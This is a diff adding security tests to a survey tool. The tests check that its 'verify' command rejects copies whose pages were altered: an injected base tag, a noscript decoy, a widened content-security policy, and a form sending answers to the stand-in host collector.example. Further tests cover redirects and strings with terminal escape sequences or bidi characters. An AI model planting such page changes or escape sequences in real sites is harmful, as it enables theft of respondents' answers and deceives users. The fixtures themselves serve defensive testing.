@@ -511,3 +511,93 @@ def test_answers_no_limit_counted_read_nothing(app, client, listed, monkeypatch)
         limited = client.post(path, json=body, headers={"Origin": LISTED})
         assert limited.status_code == 429 and "Access-Control-Allow-Origin" not in limited.headers
     assert len(connects) == 1
+
+
+# --- verify against a host that changes the page, not a file -------------------------------
+
+PAGE_ATTACKS = {
+    # the form would read another manifest: one of the host's own, beside another copy
+    "base": lambda page, sid: page.replace("<head>", '<head>\n<base href="/x/">', 1),
+    # a decoy only a parser without scripting sees first (a browser shows it as text)
+    "decoy": lambda page, sid: page.replace("<main>", '<main><noscript><article id="survey" '
+                                            f'data-survey-id="{sid}" data-manifest-url='
+                                            '"manifest.json"></article></noscript>', 1),
+    "policy": lambda page, sid: page.replace("connect-src 'self'", "connect-src *", 1),
+    "form": lambda page, sid: page.replace(
+        "</main>", '<form action="https://collector.example/true">'
+        '<input name="smoked"><button>Send</button></form></main>', 1),
+}
+
+
+@pytest.mark.parametrize("attack", PAGE_ATTACKS)
+def test_verify_refuses_a_copy_whose_page_changed_but_no_file(hosted, tmp_path, attack):
+    """The attacks an attacker's review found `verify` passed when it checked files only:
+    every page of the copy must be, byte for byte, what this release writes."""
+    survey_id, url, folder = hosted
+    index = folder / "index.html"
+    index.write_text(PAGE_ATTACKS[attack](html.unescape(index.read_text()) if attack == "policy"
+                                          else index.read_text(), survey_id))
+    result = CliRunner(env={"LDP_SURVEY_CLIENT_DIR": str(tmp_path / "device")}).invoke(
+        main, ["verify", url, "--json"])
+    assert result.exit_code == 1
+    problems = json.loads(result.output)["problems"]
+    assert any(p.startswith("the copy's pages are not those ldp-survey") for p in problems)
+
+
+def test_verify_says_what_it_checked_of_a_copy(hosted, tmp_path, live_server):
+    _, url, _ = hosted
+    result = CliRunner(env={"LDP_SURVEY_CLIENT_DIR": str(tmp_path / "device")}).invoke(
+        main, ["verify", url])
+    assert result.exit_code == 0, result.output
+    assert f"A copy of the form: answers go to {live_server}." in result.output
+    assert f"its manifest is, byte for byte, the one {live_server} signs" in result.output
+    assert "its pages (index.html) are, byte for byte, those ldp-survey" in result.output
+
+
+def test_verify_checks_where_a_redirect_ends(hosted, tmp_path):
+    """A listed host that sends browsers on to another origin: what runs there is checked,
+    at that origin, which the survey does not list."""
+    survey_id, url, folder = hosted
+    with serving(functools.partial(Quiet, directory=str(folder.parents[1]))) as elsewhere:
+        target = f"{at_localhost(elsewhere)}/s/{survey_id}/"
+
+        class Redirect(Quiet):
+            def do_GET(self):
+                self.send_response(302)
+                self.send_header("Location", target)
+                self.end_headers()
+
+        with serving(Redirect) as redirecting:
+            result = CliRunner(env={"LDP_SURVEY_CLIENT_DIR": str(tmp_path / "device")}).invoke(
+                main, ["verify", f"{redirecting}/s/{survey_id}/", "--json"])
+    found = json.loads(result.output)
+    assert result.exit_code == 1 and found["url"] == target
+    assert any(f"does not list {at_localhost(elsewhere)} in form_origins" in p
+               for p in found["problems"])
+
+
+def test_what_a_page_or_server_says_reaches_the_terminal_cleaned(hosted, tmp_path):
+    _, url, folder = hosted
+    index = folder / "index.html"
+    index.write_text(index.read_text().replace(
+        "</head>", '<link rel="stylesheet" href="./assets/style.css#\x1b[2J\x1b[HMATCHES">'
+        "</head>", 1))
+    result = CliRunner(env={"LDP_SURVEY_CLIENT_DIR": str(tmp_path / "device")}).invoke(
+        main, ["verify", url])
+    assert result.exit_code == 1
+    assert "\x1b" not in result.output and "DOES NOT MATCH" in result.output
+
+
+def test_a_servers_error_reaches_the_terminal_cleaned(tmp_path):
+    class Hostile(Quiet):
+        def do_GET(self):
+            body = json.dumps({"error": "gone", "detail": "gone\x1b]0;pwned\x07\u202eevil"})
+            self.send_response(404)
+            self.send_header("Content-Type", "application/json")
+            self.end_headers()
+            self.wfile.write(body.encode())
+
+    with serving(Hostile) as url:
+        result = write_copy(url, "someid", tmp_path / "site")
+    assert result.exit_code == 1 and "no copy written" in result.output
+    assert "\x1b" not in result.output and "\u202e" not in result.output
